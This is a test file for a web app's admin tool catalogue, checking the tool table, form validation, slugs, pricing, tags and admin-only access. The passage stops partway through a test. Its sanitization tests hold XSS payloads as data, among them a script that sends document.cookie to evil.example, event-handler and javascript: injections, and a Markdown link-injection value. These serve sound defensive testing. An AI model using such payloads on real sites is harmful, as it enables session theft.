import { eq, sql } from "drizzle-orm";
import { createElement, type ComponentType } from "react";
import { renderToString } from "react-dom/server";
import { createRoutesStub } from "react-router";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import ToolFormPage, { action as toolFormAction, loader as toolFormLoader } from "~/routes/admin/tool-form";
import AdminTools, { loader as toolsLoader } from "~/routes/admin/tools";
import { loader as categoryLoader } from "~/routes/category";
import { loader as homeLoader } from "~/routes/home";
import { loader as sitemapLoader } from "~/routes/sitemap-section";
import ToolDetail, { loader as toolLoader } from "~/routes/tool";
import { recordVote } from "~/server/community/votes.server";
import { comments, tags, toolCategoryCounts, tools, toolVotes } from "~/server/db/schema.server";
import { listTagsForTool } from "~/server/catalog/tags.server";
import { takeFlash } from "~/server/flash.server";
import { insertTools } from "../../../tests/setup/fixtures";
import {
  contextFor,
  cookieHeaderFrom,
  createSignedInAdmin,
  createSignedInUser,
  createTestServices,
  TEST_SITE_URL,
  type TestServices,
} from "../../../tests/setup/test-app";
import { formPostRequest, getRequest, type RouteAnswer, settleRoute } from "../../../tests/setup/route-calls";
import { createTestDatabase, type TestDatabase } from "../../../tests/setup/test-database";

// The admin tool table and tool form as a browser reaches them: real requests, real sessions.

let database: TestDatabase;
let services: TestServices;
let admin: { id: string; cookie: string };
let reader: { id: string; cookie: string };

beforeAll(async () => {
  database = await createTestDatabase();
  services = createTestServices({ db: database.db });
  admin = await createSignedInAdmin(services, "admin@example.com");
  reader = await createSignedInUser(services, "reader@example.com");
});
afterAll(() => database.dispose());

beforeEach(async () => {
  await database.db.execute(sql`truncate table ${tools}, ${tags} cascade`);
});

// --- Requests and what comes back ---

type Outcome = RouteAnswer;

type Who = { cookie?: string; data?: boolean };

async function get(loader: (args: never) => unknown, path: string, params: Record<string, string>, who: Who = {}) {
  const request = getRequest(path, who);
  const context = await contextFor(services, request);
  return settleRoute(async () => loader({ request, params, context } as never));
}

/** Fields of a form post; an array repeats the name once per row, as the form's lists do. */
type Fields = Record<string, string | string[]>;

async function post(
  id: string,
  fields: Fields,
  { cookie = admin.cookie, origin }: { cookie?: string | null; origin?: string | null } = {},
) {
  const request = formPostRequest(`/admin/tools/${id}`, fields, { cookie, origin });
  const context = await contextFor(services, request);
  return settleRoute(async () => toolFormAction({ request, params: { id }, context } as never));
}

/** A complete, valid tool form; `overrides` replace fields. */
function toolForm(overrides: Fields = {}): Fields {
  return {
    intent: "save",
    name: "Quill Writer",
    category: "Writing",
    description: "<p>Drafts letters for you.</p>",
    image: "https://cdn.example.com/quill.png",
    website: "https://quill.example.com",
    slug: "",
    metaTitle: "",
    features: ["Drafts letters", ""],
    pros: ["Fast"],
    cons: [""],
    pricingShape: "none",
    tagline: "Drafts letters for you.",
    pricingModel: "freemium",
    ...overrides,
  };
}

function flashOf(outcome: Outcome) {
  expect(outcome.headers).not.toBeNull();
  const request = new Request(TEST_SITE_URL, { headers: { cookie: cookieHeaderFrom(outcome.headers!) } });
  return takeFlash(request).flash;
}

function expectSuccess(outcome: Outcome, title: string) {
  expect(outcome).toMatchObject({ status: 302, location: "/admin/tools" });
  expect(flashOf(outcome)).toEqual({ kind: "success", title });
}

const allTools = () => database.db.select().from(tools);
const toolNamed = async (name: string) => (await database.db.select().from(tools).where(eq(tools.name, name)))[0];

/** Renders a route component with the data its loader (and action) gave, as the server would. */
function render(
  Component: ComponentType<never>,
  path: string,
  pattern: string,
  loaderData: unknown,
  actionData?: unknown,
) {
  const Stub = createRoutesStub([
    { id: "page", path: pattern, Component: Component as ComponentType, loader: () => loaderData },
  ]);
  return renderToString(
    createElement(Stub, {
      initialEntries: [path],
      hydrationData: { loaderData: { page: loaderData }, ...(actionData ? { actionData: { page: actionData } } : {}) },
    }),
  );
}

/** The opening tag of the element with this id, to check its attributes in any order. */
function tagWithId(html: string, id: string): string {
  const tag = html.match(new RegExp(`<[a-z]+\\b[^>]*\\bid="${id}"[^>]*>`))?.[0];
  if (!tag) throw new Error(`no element with id ${id}`);
  return tag;
}

/** Text of the HTML with tags removed, for reading what a visitor sees. */
const visibleText = (html: string) => html.replace(/<[^>]*>/g, " ").replace(/\s+/g, " ");

// --- The tool table ---

describe("the tool table", () => {
  it("lists tools by name with category, rating or N/A, SEO title or the name, Edit and View", async () => {
    const [quill, echo] = await insertTools(
      database.db,
      { name: "Quill Writer", category: "Writing", metaTitle: "Quill: AI letters" },
      { name: "echo", category: "Audio", slug: "echo-voice" },
    );
    await recordVote({ db: database.db, userId: reader.id, toolId: quill!.id, rating: 4 });

    const outcome = await get(toolsLoader, "/admin/tools", {}, { cookie: admin.cookie });
    expect(outcome.status).toBe(200);
    const loaderData = outcome.data as { toolPage: { tools: { name: string }[]; total: number }; failed: boolean };
    expect(loaderData.failed).toBe(false);
    expect(loaderData.toolPage.tools.map((tool) => tool.name)).toEqual(["echo", "Quill Writer"]);

    const html = render(AdminTools, "/admin/tools", "/admin/tools", loaderData);
    const text = visibleText(html);
    expect(text).toContain("Showing 2 of 2 tools");
    expect(text).toMatch(/Name\s+Category\s+Rating\s+SEO Title\s+Actions/);
    expect(text).toMatch(/echo\s+Audio\s+N\/A\s+echo\s+Edit echo\s+View echo \(opens in a new tab\)/);
    expect(text).toMatch(/Quill Writer\s+Writing\s+4\.0\s+Quill: AI letters\s+Edit Quill Writer/);
    expect(html).toContain(`href="/admin/tools/${echo!.id}"`);
    expect(html).toMatch(/<a href="\/tool\/echo-voice" target="_blank" rel="noopener noreferrer"[^>]*>/);
    expect(html).toContain('href="/admin/tools/new"');
    expect(text).toContain("Add New Tool");
    expect(html).toMatch(
      /<label for="search-\/admin\/tools" class="sr-only">Search tools by name or category<\/label>/,
    );
    expect(html).toContain('placeholder="Search tools..."');
    expect(text).not.toContain("No tools found");
  });

  it("searches by name or category and pages through a long list", async () => {
    await insertTools(
      database.db,
      ...Array.from({ length: 55 }, (_, index) => ({
        name: `Writer ${String(index).padStart(2, "0")}`,
        category: "Writing",
      })),
      { name: "Paint", category: "Image" },
    );
    const byCategory = await get(toolsLoader, "/admin/tools?q=IMAGE", {}, { cookie: admin.cookie });
    expect(byCategory.data).toMatchObject({ query: "IMAGE", toolPage: { total: 1, tools: [{ name: "Paint" }] } });

    const second = await get(toolsLoader, "/admin/tools?q=writer&page=2", {}, { cookie: admin.cookie });
    const page = (second.data as { toolPage: { tools: { name: string }[]; total: number; pageCount: number } })
      .toolPage;
    expect(page).toMatchObject({ total: 55, pageCount: 2 });
    expect(page.tools.map((tool) => tool.name)).toEqual([
      "Writer 50",
      "Writer 51",
      "Writer 52",
      "Writer 53",
      "Writer 54",
    ]);
    const html = render(AdminTools, "/admin/tools?q=writer&page=2", "/admin/tools", second.data);
    expect(visibleText(html)).toContain("Showing 5 of 55 tools matching “writer”");
    expect(visibleText(html)).toContain("Page 2 of 2");
    expect(html).toContain('href="/admin/tools?q=writer"');
  });

  it("says 'No tools found' when nothing matches", async () => {
    await insertTools(database.db, { name: "Quill" });
    const outcome = await get(toolsLoader, "/admin/tools?q=zzz", {}, { cookie: admin.cookie });
    const text = visibleText(render(AdminTools, "/admin/tools?q=zzz", "/admin/tools", outcome.data));
    expect(text).toContain("No tools found");
    expect(text).toContain("Showing 0 of 0 tools matching “zzz”");
  });

  it("shows the error alert when the list cannot be read, and keeps the page", async () => {
    const request = new Request(new URL("/admin/tools", TEST_SITE_URL), { headers: { cookie: admin.cookie } });
    const context = await contextFor(services, request);
    const failingDb = new Proxy(database.db, {
      get(target, property, receiver) {
        if (property === "select") {
          return () => {
            throw new Error("connection lost");
          };
        }
        return Reflect.get(target, property, receiver);
      },
    });
    const loaderData = await toolsLoader({ request, params: {}, context: { ...context, db: failingDb } } as never);
    expect(loaderData).toMatchObject({ failed: true, toolPage: null });
    const html = render(AdminTools, "/admin/tools", "/admin/tools", loaderData);
    expect(html).toMatch(/role="alert"[^>]*>.*Failed to load tools\. Please try again later\./);
    expect(visibleText(html)).toContain("Add New Tool");
  });

  it("sends signed-out visitors and non-admins home, and refuses their data requests", async () => {
    for (const cookie of [undefined, reader.cookie]) {
      expect(await get(toolsLoader, "/admin/tools", {}, { cookie })).toMatchObject({ status: 302, location: "/" });
      expect(await get(toolsLoader, "/admin/tools", {}, { cookie, data: true })).toMatchObject({ status: 403 });
    }
  });
});

// --- The tool form's loader ---

describe("opening the tool form", () => {
  it("is empty for new, and holds the tool (never its rating) for an id", async () => {
    const [tool] = await insertTools(database.db, {
      name: "Quill",
      features: ["Drafts"],
      pricing: { Free: "$0" },
    });
    const [api] = await database.db.insert(tags).values({ name: "API", slug: "api" }).returning();
    expect(await get(toolFormLoader, "/admin/tools/new", { id: "new" }, { cookie: admin.cookie })).toMatchObject({
      status: 200,
      data: { tool: null, tags: [{ id: api!.id, slug: "api", name: "API" }] },
    });
    const edit = await get(toolFormLoader, `/admin/tools/${tool!.id}`, { id: tool!.id }, { cookie: admin.cookie });
    expect(edit.data).toEqual({
      tool: {
        id: tool!.id,
        slug: "quill",
        name: "Quill",
        category: "Writing",
        description: "<p>About Quill.</p>",
        image: null,
        website: null,
        metaTitle: null,
        features: ["Drafts"],
        pros: [],
        cons: [],
        pricing: { Free: "$0" },
        tagline: null,
        pricingModel: null,
        startingPrice: null,
        tags: [],
        facts: {},
      },
      tags: [{ id: api!.id, slug: "api", name: "API" }],
      // Without keys in the test services, the AI buttons say what to configure.
      research: {
        configured: false,
        missing: [
          { name: "BRAVE_API_KEY", purpose: expect.any(String) },
          {
            name: "ANTHROPIC_API_KEY",
            purpose: expect.any(String),
            instead: { names: ["AI_BASE_URL", "AI_MODEL"], purpose: "an OpenAI-compatible model" },
          },
        ],
      },
      // Only the create form opened from the inbox carries a submission, and from the research queue a draft.
      submission: null,
      queueEntry: null,
      prefill: null,
      // No member has verified that they make it (decision 190).
      makers: [],
    });
  });

  it("answers 404 'Tool not found' for an unknown or malformed id", async () => {
    for (const id of ["00000000-0000-4000-8000-000000000000", "quill", "new-ish"]) {
      expect(await get(toolFormLoader, `/admin/tools/${id}`, { id }, { cookie: admin.cookie })).toMatchObject({
        status: 404,
        data: { error: "Tool not found", code: "not-found" },
      });
    }
  });

  it("sends signed-out visitors and non-admins home, and refuses their data requests", async () => {
    const [tool] = await insertTools(database.db, { name: "Quill" });
    for (const id of ["new", tool!.id]) {
      for (const cookie of [undefined, reader.cookie]) {
        expect(await get(toolFormLoader, `/admin/tools/${id}`, { id }, { cookie })).toMatchObject({
          status: 302,
          location: "/",
        });
        expect(await get(toolFormLoader, `/admin/tools/${id}`, { id }, { cookie, data: true })).toMatchObject({
          status: 403,
        });
      }
    }
  });

  it("renders every field, the lists, pricing in the tool's shape, Save, Cancel and Delete", async () => {
    const [tool] = await insertTools(database.db, {
      name: "Quill",
      features: ["Drafts", "Edits"],
      pros: ["Fast"],
      pricing: [{ plan: "Pro", price: "$20", details: "All", features: ["Exports", "Priority"] }],
    });
    const outcome = await get(toolFormLoader, `/admin/tools/${tool!.id}`, { id: tool!.id }, { cookie: admin.cookie });
    const html = render(ToolFormPage, `/admin/tools/${tool!.id}`, "/admin/tools/:id", outcome.data);
    const text = visibleText(html);
    for (const label of ["Name", "Category", "Description", "Website", "Slug", "SEO Title"]) {
      expect(html).toMatch(new RegExp(`<label[^>]*for="[^"]+"[^>]*>${label}</label>`));
    }
    expect(html).toMatch(/<label[^>]*for="image"[^>]*>Logo URL<\/label>/);
    expect(tagWithId(html, "image")).toContain('name="image"');
    expect(html).toMatch(/<select[^>]*name="category"/);
    expect(html).toContain('<option value="Writing" selected="">Writing</option>');
    expect(tagWithId(html, "features-0")).toMatch(/aria-label="Feature 1".*name="features".*value="Drafts"/);
    expect(html).toContain('aria-label="Remove feature 2"');
    expect(html).toMatch(/aria-label="Remove pro 1" aria-disabled="true"/);
    expect(html).toMatch(/aria-label="Remove con 1" aria-disabled="true"/);
    expect(text).toContain("Add feature");
    expect(tagWithId(html, "pricing-shape-plans")).toMatch(/type="radio".*name="pricingShape".*checked=""/);
    expect(tagWithId(html, "pricing-shape-simple")).not.toContain("checked");
    expect(html).toContain(">Exports\nPriority</textarea>");
    expect(text).toContain("Edit Tool");
    expect(html).toMatch(
      /<button type="submit"(?=[^>]*form="tool-form")(?=[^>]*name="intent")(?=[^>]*value="save")[^>]*>Save<\/button>/,
    );
    expect(html).toMatch(/<a[^>]*href="\/admin\/tools"[^>]*>Cancel<\/a>/);
    expect(text).toContain("Delete");
  });

  it("after a refused save without JavaScript, shows what was typed with the messages", async () => {
    const refused = await post(
      "new",
      toolForm({ name: "Typed name", category: "", features: ["Kept feature", "Kept feature"] }),
    );
    expect(refused.status).toBe(400);
    const html = render(
      ToolFormPage,
      "/admin/tools/new",
      "/admin/tools/:id",
      { tool: null, tags: [], research: services.research.availability },
      refused.data,
    );
    expect(html).toContain('value="Typed name"');
    expect(visibleText(html)).toContain("Category is required");
    expect(visibleText(html)).toContain("This feature is already in the list");
    expect(tagWithId(html, "category")).toContain('aria-invalid="true"');
  });
});

// --- Saving ---

describe("creating a tool", () => {
  it("saves it, says 'Tool created successfully', returns to the list and refreshes public pages", async () => {
    const before = services.invalidations();
    const outcome = await post(
      "new",
      toolForm({
        pricingShape: "plans",
        "pricing.plan": ["Free", "Pro"],
        "pricing.price": ["$0", "$20/month"],
        "pricing.details": ["Basic", "Everything"],
        "pricing.features": ["", "Exports\nPriority"],
      }),
    );
    expectSuccess(outcome, "Tool created successfully");
    expect(services.invalidations()).toBe(before + 1);

    const tool = await toolNamed("Quill Writer");
    expect(tool).toMatchObject({
      slug: "quill-writer",
      category: "Writing",
      image: "https://cdn.example.com/quill.png",
      website: "https://quill.example.com",
      features: ["Drafts letters"],
      pros: ["Fast"],
      cons: [],
      metaTitle: null,
      pricing: [
        { plan: "Free", price: "$0", details: "Basic" },
        { plan: "Pro", price: "$20/month", details: "Everything", features: ["Exports", "Priority"] },
      ],
    });

    // Whatever the admin saves shows on the public pages on the next request.
    const page = await get(toolLoader, "/tool/quill-writer", { id: "quill-writer" });
    expect(page.data).toMatchObject({
      tool: { name: "Quill Writer", descriptionHtml: "<p>Drafts letters for you.</p>" },
    });
    expect((await get(homeLoader, "/?q=quill", {})).data).toMatchObject({
      toolPage: { tools: [{ name: "Quill Writer" }] },
    });
    expect((await get(categoryLoader, "/category/Writing", { category: "Writing" })).data).toMatchObject({
      toolPage: { total: 1, tools: [{ slug: "quill-writer" }] },
    });
    const xmlRequest = new Request(new URL("/sitemap-tools.xml", TEST_SITE_URL));
    const xml = await (
      (await sitemapLoader({
        request: xmlRequest,
        params: {},
        context: await contextFor(services, xmlRequest),
      } as never)) as Response
    ).text();
    expect(xml).toContain(`${TEST_SITE_URL}/tool/quill-writer`);
  });

  it("stores the simple pricing shape as plans in the order typed, and shows them back as plans", async () => {
    expectSuccess(
      await post(
        "new",
        toolForm({
          pricingShape: "simple",
          "pricing.plan": ["Free", "", "Team"],
          "pricing.price": ["$0", "", "$30 per seat"],
        }),
      ),
      "Tool created successfully",
    );
    const tool = await toolNamed("Quill Writer");
    // Decision 153: a map would come back sorted; plans keep the order typed.
    expect(tool!.pricing).toEqual([
      { plan: "Free", price: "$0", details: "" },
      { plan: "Team", price: "$30 per seat", details: "" },
    ]);
    const edit = await get(toolFormLoader, `/admin/tools/${tool!.id}`, { id: tool!.id }, { cookie: admin.cookie });
    const html = render(ToolFormPage, `/admin/tools/${tool!.id}`, "/admin/tools/:id", edit.data);
    expect(tagWithId(html, "pricing-shape-plans")).toContain('checked=""');
    expect(html).toMatch(/value="\$30 per seat"/);
  });

  it("generates a unique slug from the name, and refuses a typed slug already in use", async () => {
    await insertTools(database.db, { name: "Quill Writer", slug: "quill-writer" });
    expectSuccess(await post("new", toolForm()), "Tool created successfully");
    expect((await allTools()).map((tool) => tool.slug).sort()).toEqual(["quill-writer", "quill-writer-2"]);

    const taken = await post("new", toolForm({ name: "Other", slug: "Quill Writer" }));
    expect(taken).toMatchObject({
      status: 400,
      data: {
        ok: false,
        formError: "Failed to create tool: This slug is already used by another tool",
        fieldErrors: { slug: "This slug is already used by another tool" },
      },
    });
    expect(await allTools()).toHaveLength(2);
  });

  it.each<[string, Fields, Record<string, string>]>([
    ["a blank name", { name: "  " }, { name: "Name is required" }],
    ["no category", { category: "" }, { category: "Category is required" }],
    ["an unknown category", { category: "Cooking" }, { category: "Choose a category from the list" }],
    ["a blank description", { description: "<p>  </p>" }, { description: "Description is required" }],
    [
      "a description that is only a script",
      { description: "<script>alert(1)</script>" },
      { description: "Description is required" },
    ],
    ["a logo that is not a URL", { image: "javascript:alert(1)" }, { image: "Must be a valid URL" }],
    ["a website that is not a URL", { website: "quill dot com" }, { website: "Must be a valid URL" }],
    [
      "a website that would end its Markdown link (issue 37)",
      { website: "https://x.com/x>[evil](javascript:alert('web'))<x" },
      { website: "Website must not contain spaces, quotes, angle brackets or backticks" },
    ],
    ["no features", { features: ["", " "] }, { features: "At least one feature is required" }],
    ["a slug of symbols", { slug: "%%%" }, { slug: "Slug must contain letters or numbers" }],
    ["no tagline", { tagline: "  " }, { tagline: "Tagline is required" }],
    [
      "a tagline over 120 characters",
      { tagline: "x".repeat(121) },
      { tagline: "Tagline must be at most 120 characters" },
    ],
    ["no pricing model", { pricingModel: "" }, { pricingModel: "Pricing model is required" }],
    [
      "an unknown pricing model",
      { pricingModel: "lifetime" },
      { pricingModel: "Choose a pricing model from the list" },
    ],
    ["a tag that is not in the list", { tags: ["made-up"] }, { tags: "Choose tags from the list" }],
    [
      "more than 10 tags",
      { tags: Array.from({ length: 11 }, (_, index) => `tag-${index}`) },
      { tags: "At most 10 tags" },
    ],
    [
      "a simple plan without text",
      { pricingShape: "simple", "pricing.plan": ["Free"], "pricing.price": [""] },
      { "pricing.entries.0.price": "Price is required" },
    ],
    [
      "a plan without a name",
      {
        pricingShape: "plans",
        "pricing.plan": [""],
        "pricing.price": ["$5"],
        "pricing.details": [""],
        "pricing.features": [""],
      },
      { "pricing.plans.0.plan": "Plan name is required" },
    ],
    [
      "a known fact without its source",
      { "facts.present": "1", "facts.api.value": "yes", "facts.api.sourceUrl": "" },
      { "facts.api.sourceUrl": "Source URL is required when the fact is known" },
    ],
    [
      "a platform outside the list",
      {
        "facts.present": "1",
        "facts.platforms.items": ["web", "playstation"],
        "facts.platforms.sourceUrl": "https://quill.example.com/download",
      },
      { "facts.platforms.items": "Choose platforms from the list" },
    ],
  ])("refuses %s with the message beside the field, writing nothing", async (_label, overrides, fieldErrors) => {
    const before = services.invalidations();
    const outcome = await post("new", toolForm(overrides));
    expect(outcome).toMatchObject({
      status: 400,
      data: { ok: false, formError: `Failed to create tool: ${Object.values(fieldErrors)[0]}`, fieldErrors },
    });
    expect(await allTools()).toEqual([]);
    expect(services.invalidations()).toBe(before);
  });

  it("sums up several problems in the toast and marks each field", async () => {
    const outcome = await post("new", toolForm({ name: "", category: "", description: "", features: [""] }));
    expect(outcome).toMatchObject({
      status: 400,
      data: {
        formError: "Failed to create tool: Please correct the highlighted fields",
        fieldErrors: {
          name: "Name is required",
          category: "Category is required",
          description: "Description is required",
          features: "At least one feature is required",
        },
      },
    });
  });

  it("ignores a rating or vote count sent with the form", async () => {
    expectSuccess(
      await post("new", toolForm({ rating: "5", voteCount: "999", vote_count: "999" })),
      "Tool created successfully",
    );
    expect(await toolNamed("Quill Writer")).toMatchObject({ rating: null, voteCount: 0 });
  });

  it("stores the description sanitized and the public page serves it clean", async () => {
    const payload = [
      "<p>Safe <strong>text</strong>.</p>",
      '<script>document.location="https://evil.example/?c="+document.cookie</script>',
      '<img src="https://cdn.example.com/a.png" onerror="alert(1)">',
      '<a href="javascript:alert(1)">click</a>',
      '<svg onload="alert(1)"></svg>',
      '<iframe src="https://evil.example"></iframe>',
      '<p style="position:fixed;inset:0">Overlay</p>',
      '<a href="data:text/html,<script>alert(1)</script>">data</a>',
    ].join("");
    expectSuccess(await post("new", toolForm({ description: payload })), "Tool created successfully");
    const stored = (await toolNamed("Quill Writer"))!.description;
    const page = await get(toolLoader, "/tool/quill-writer", { id: "quill-writer" });
    const served = (page.data as { tool: { descriptionHtml: string } }).tool.descriptionHtml;
    for (const html of [stored, served]) {
      expect(html).toContain("<p>Safe <strong>text</strong>.</p>");
      expect(html).toContain("Overlay");
      for (const forbidden of [
        "<script",
        "onerror",
        "javascript:",
        "<svg",
        "onload",
        "<iframe",
        "style=",
        "data:",
        "evil.example",
      ]) {
        expect(html.toLowerCase()).not.toContain(forbidden);
      }
    }
  });

  it("keeps a name with markup as plain text on the public page", async () => {
    const name = '<img src=x onerror=alert(1)><b>Bold</b> & "Co"';
    expectSuccess(await post("new", toolForm({ name })), "Tool created successfully");
    const tool = await toolNamed(name);
    expect(tool).toBeDefined();
    const page = await get(toolLoader, `/tool/${tool!.slug}`, { id: tool!.slug });
    expect(page.status).toBe(200);
    const html = render(ToolDetail, `/tool/${tool!.slug}`, "/tool/:id", page.data);
    expect(html).toContain("<h1");
    expect(html).toMatch(
      /<h1[^>]*>&lt;img src=x onerror=alert\(1\)&gt;&lt;b&gt;Bold&lt;\/b&gt; &amp; &quot;Co&quot;<\/h1>/,
    );
    expect(html).not.toContain("<img src=x");
    expect(html).not.toContain("<b>Bold</b>");
  });
});

describe("the catalogue facts and tags", () => {
  async function insertTags(...names: string[]) {
    return database.db
      .insert(tags)
      .values(names.map((name) => ({ name, slug: name.toLowerCase() })))
      .returning();
  }
  const tagsOf = async (toolId: string) => (await listTagsForTool({ db: database.db, toolId })).map((tag) => tag.name);

  it("renders the tagline, pricing model (with the plans' suggestion), starting price and tag checkboxes", async () => {
    const [api, chatbot] = await insertTags("API", "Chatbot", "Research");
    const [tool] = await insertTools(database.db, {
      name: "Quill",
      tagline: "Drafts letters.",
      pricingModel: "paid",
      startingPrice: "$10/month",
      pricing: { Free: "$0", Pro: "$10/month" },
    });
    expectSuccess(
      await post(
        tool!.id,
        toolForm({
          name: "Quill",
          tagline: "Drafts letters.",
          pricingModel: "paid",
          pricingShape: "simple",
          "pricing.plan": ["Free", "Pro"],
          "pricing.price": ["$0", "$10/month"],
          tags: [api!.id, chatbot!.id],
        }),
      ),
      "Tool updated successfully",
    );
    const outcome = await get(toolFormLoader, `/admin/tools/${tool!.id}`, { id: tool!.id }, { cookie: admin.cookie });
    const html = render(ToolFormPage, `/admin/tools/${tool!.id}`, "/admin/tools/:id", outcome.data);
    const text = visibleText(html);
    expect(html).toMatch(/<label[^>]*for="tagline"[^>]*>Tagline<\/label>/);
    expect(tagWithId(html, "tagline")).toMatch(/name="tagline"/);
    expect(tagWithId(html, "tagline")).toContain('maxLength="120"');
    expect(tagWithId(html, "tagline")).toContain('value="Drafts letters."');
    expect(text).toContain("One sentence: what the tool does");
    expect(html).toMatch(/<label[^>]*for="pricingModel"[^>]*>Pricing model<\/label>/);
    expect(html).toMatch(
      /<select[^>]*name="pricingModel"[^>]*><option value="">Choose…<\/option><option value="free">Free<\/option><option value="freemium">Freemium<\/option><option value="free-trial">Free trial<\/option><option value="paid" selected="">Paid<\/option><option value="contact">Contact sales<\/option><\/select>/,
    );
    // A $0 plan beside a paid one suggests Freemium; the stored choice (Paid) stays selected.
    expect(text).toContain("Suggested: Freemium");
    // Not a field any more: the price the plans give, shown read-only (decision 166).
    expect(html).not.toContain('name="startingPrice"');
    expect(text).toContain("Starting price: $10/month (from the plans)");
    expect(html).toMatch(/<fieldset[^>]*><legend[^>]*>Tags<\/legend>/);
    expect(tagWithId(html, `tag-${api!.id}`)).toMatch(/type="checkbox".*name="tags".*checked=""/);
    expect(tagWithId(html, `tag-${chatbot!.id}`)).toContain('checked=""');
    expect(html).toMatch(new RegExp(`<label for="tag-[^"]+"[^>]*>Research</label>`));
    expect(text).toContain("2 of at most 10 chosen");
  });

  it("saves the facts and tags, and replaces the tags on edit", async () => {
    const [api, chatbot, research] = await insertTags("API", "Chatbot", "Research");
    expectSuccess(
      await post(
        "new",
        toolForm({
          tagline: "  Drafts\nletters. ",
          pricingModel: "free",
          // A price posted beside the plans is not read: the plans give it (decision 166).
          startingPrice: "$99/month",
          pricingShape: "plans",
          "pricing.plan": ["Free"],
          "pricing.price": ["$0"],
          "pricing.details": ["Ten letters"],
          "pricing.features": [""],
          tags: [api!.id, "chatbot"],
        }),
      ),
      "Tool created successfully",
    );
    const tool = await toolNamed("Quill Writer");
    expect(tool).toMatchObject({ tagline: "Drafts letters.", pricingModel: "free", startingPrice: "Free" });
    expect(await tagsOf(tool!.id)).toEqual(["API", "Chatbot"]);

    expectSuccess(await post(tool!.id, toolForm({ tags: [research!.id, chatbot!.id] })), "Tool updated successfully");
    expect(await tagsOf(tool!.id)).toEqual(["Chatbot", "Research"]);
    expectSuccess(await post(tool!.id, toolForm({})), "Tool updated successfully");
    expect(await tagsOf(tool!.id)).toEqual([]);
  });

  it("refuses an unknown tag on edit, keeping the tool and its tags as they were", async () => {
    const [api] = await insertTags("API");
    const [tool] = await insertTools(database.db, { name: "Quill" });
    expectSuccess(await post(tool!.id, toolForm({ name: "Quill", tags: [api!.id] })), "Tool updated successfully");
    const before = services.invalidations();
    expect(
      await post(tool!.id, toolForm({ name: "Renamed", tags: [api!.id, "00000000-0000-4000-8000-000000000000"] })),
    ).toMatchObject({
      status: 400,
      data: {
        formError: "Failed to update tool: Choose tags from the list",
        fieldErrors: { tags: "Choose tags from the list" },
      },
    });
    expect((await allTools()).map((row) => row.name)).toEqual(["Quill"]);
    expect(await tagsOf(tool!.id)).toEqual(["API"]);
    expect(services.invalidations()).toBe(before);
  });
});

describe("the table's 'Missing tagline or pricing model' filter", () => {
  it("lists only the tools still missing one, keeping the search, with what each lacks", async () => {
    await insertTools(
      database.db,
      { name: "Complete", tagline: "Does it.", pricingModel: "free" },
      { name: "Quill", pricingModel: "paid" },
      { name: "Quest", tagline: "Finds it." },
      { name: "Echo" },
    );
    const outcome = await get(toolsLoader, "/admin/tools?missing=1&q=qu", {}, { cookie: admin.cookie });
    expect(outcome.data).toMatchObject({ view: "missing", query: "qu", toolPage: { total: 2 } });
    const html = render(AdminTools, "/admin/tools?missing=1&q=qu", "/admin/tools", outcome.data);
    const text = visibleText(html);
    expect(text).toContain("Showing 2 of 2 tools missing a tagline or pricing model matching “qu”");
    expect(text).toMatch(/Quest\s+No pricing model\s+Writing/);
    expect(text).toMatch(/Quill\s+No tagline\s+Writing/);
    expect(html).toMatch(
      /<a[^>]*aria-current="page"[^>]*href="\/admin\/tools\?q=qu&amp;missing=1"|<a[^>]*href="\/admin\/tools\?q=qu&amp;missing=1"[^>]*aria-current="page"/,
    );
    expect(html).toContain('href="/admin/tools?q=qu"');
    expect(html).toMatch(/<input type="hidden" name="missing" value="1"/);

    const all = await get(toolsLoader, "/admin/tools", {}, { cookie: admin.cookie });
    expect(all.data).toMatchObject({ view: "all", toolPage: { total: 4 } });
    expect(visibleText(render(AdminTools, "/admin/tools", "/admin/tools", all.data))).not.toContain("No tagline");
  });
});

describe("updating a tool", () => {
  it("saves it, says 'Tool updated successfully', keeps the slug when left blank, keeps the rating", async () => {
    const [tool] = await insertTools(database.db, { name: "Quill", category: "Writing", features: ["Old"] });
    await recordVote({ db: database.db, userId: reader.id, toolId: tool!.id, rating: 5 });
    const before = services.invalidations();

    const outcome = await post(
      tool!.id,
      toolForm({ name: "Quill Pro", category: "Productivity", slug: "", rating: "1", metaTitle: "Quill Pro: letters" }),
    );
    expectSuccess(outcome, "Tool updated successfully");
    expect(services.invalidations()).toBe(before + 1);
    const saved = await toolNamed("Quill Pro");
    expect(saved).toMatchObject({
      id: tool!.id,
      slug: "quill",
      category: "Productivity",
      metaTitle: "Quill Pro: letters",
      rating: 5,
      voteCount: 1,
    });
    expect(saved!.updatedAt.getTime()).toBeGreaterThan(tool!.updatedAt.getTime());
    expect(await database.db.select().from(toolCategoryCounts)).toEqual([{ category: "Productivity", toolCount: 1 }]);

    const page = await get(toolLoader, "/tool/quill", { id: "quill" });
    expect(page.data).toMatchObject({ tool: { name: "Quill Pro", category: "Productivity" } });
  });

  it("moves the tool to a typed slug, refuses another tool's slug", async () => {
    const [tool] = await insertTools(database.db, { name: "Quill" }, { name: "Echo" });
    expectSuccess(await post(tool!.id, toolForm({ name: "Quill", slug: "Quill Pen" })), "Tool updated successfully");
    expect((await toolNamed("Quill"))!.slug).toBe("quill-pen");
    expect((await get(toolLoader, "/tool/quill-pen", { id: "quill-pen" })).status).toBe(200);

    expect(await post(tool!.id, toolForm({ name: "Quill", slug: "echo" }))).toMatchObject({
      status: 400,
      data: { ok: false, formError: "Failed to update tool: This slug is already used by another tool" },
    });
  });

  it("words a refusal as 'Failed to update tool: {message}'", async () => {
    const [tool] = await insertTools(database.db, { name: "Quill" });
    expect(await post(tool!.id, toolForm({ name: "" }))).toMatchObject({
      status: 400,
      data: {
        ok: false,
        formError: "Failed to update tool: Name is required",
        fieldErrors: { name: "Name is required" },
      },
    });
    expect((await toolNamed("Quill"))!.name).toBe("Quill");
  });

  it("refuses a website that would end its Markdown link, changing nothing (issue 37)", async () => {
    const [tool] = await insertTools(database.db, { name: "Quill", website: "https://quill.example.com" });
    const before = services.invalidations();
    const website = "https://x.com/x>[evil](javascript:alert('web'))<x";
    expect(await post(tool!.id, toolForm({ name: "Quill", website }))).toMatchObject({
      status: 400,
      data: {
        ok: false,
        formError: "Failed to update tool: Website must not contain spaces, quotes, angle brackets or backticks",
        fieldErrors: { website: "Website must not contain spaces, quotes, angle brackets or backticks" },
      },
    });
    expect(await allTools()).toEqual([tool]);
    expect(services.invalidations()).toBe(before);
  });

  it("answers 404 for an unknown or malformed id, writing nothing", async () => {
    const before = services.invalidations();
    expect(await post("00000000-0000-4000-8000-000000000000", toolForm())).toMatchObject({
      status: 404,
